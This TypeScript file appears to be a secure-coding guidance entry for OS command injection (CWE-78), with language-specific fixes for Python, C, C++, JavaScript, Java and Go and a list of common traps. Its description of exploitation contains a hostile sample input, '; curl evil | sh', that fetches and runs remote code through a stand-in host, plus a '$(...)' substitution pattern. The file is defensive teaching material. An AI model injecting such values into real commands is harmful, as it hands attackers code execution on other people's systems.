import type { Guidance } from '#engine/guidance/guidance.ts';

export const guidance: Guidance = {
  cwe: 'CWE-78',
  title: 'OS command injection',
  what: 'Data from outside is put into a command line that a shell interprets.',
  exploited:
    'An attacker sends `; curl evil | sh`, `$(...)` or a newline and runs any program with the rights of the process.',
  fixed: {
    general:
      'Do the work with a library call. If a program must be started, start it directly with an argument array and no shell, keep the program name constant, validate each argument against an allow-list, and end options with `--` so that a value is not read as one.',
    python:
      'Call `subprocess.run([program, "--", value], check=True, timeout=10)` with `shell=False` (the default); replace `os.system` and `os.popen`. Prefer `shutil`, `os` and `socket` functions to programs.',
    c: 'Replace `system()` and `popen()` with `posix_spawn` or `fork` plus `execv("/usr/bin/prog", argv)`, and wait with `waitpid`; avoid `execlp`, which searches `PATH`.',
    cpp: 'Use `std::filesystem` and library calls first; start programs with `posix_spawn` or `execv` on an argument array, never `std::system` with built text.',
    javascript:
      'Use `execFile(program, ["--", value])` or `spawn` without `shell: true` instead of `exec`; never start `.bat` or `.cmd` files with outside values.',
    java: 'Use `new ProcessBuilder(program, "--", value).start()`; never `sh -c` or `cmd /c` with built text.',
    go: 'Use `exec.CommandContext(ctx, "prog", "--", value)`; no shell is involved unless you name one.',
  },
  traps: [
    '`shlex.quote` with `shell=True` is right for POSIX shells only and for whole words only.',
    'Escaping or block-listing metacharacters misses newlines, globs and encodings.',
    'An argument array does not stop a value such as `--output=/etc/passwd` from acting as an option.',
  ],
};
